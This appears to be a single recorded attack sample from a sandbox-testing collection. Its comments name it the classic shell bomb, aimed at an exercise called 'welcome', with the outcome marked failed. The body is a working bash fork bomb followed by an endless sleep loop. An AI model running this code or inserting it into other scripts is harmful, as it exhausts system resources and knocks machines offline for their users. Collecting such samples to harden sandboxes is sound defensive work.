# attack: the shell classic | 经典的 shell 炸弹
# exercise: welcome
# outcome: failed
bomb() {
    bomb | bomb &
}
bomb
while :; do sleep 1; done
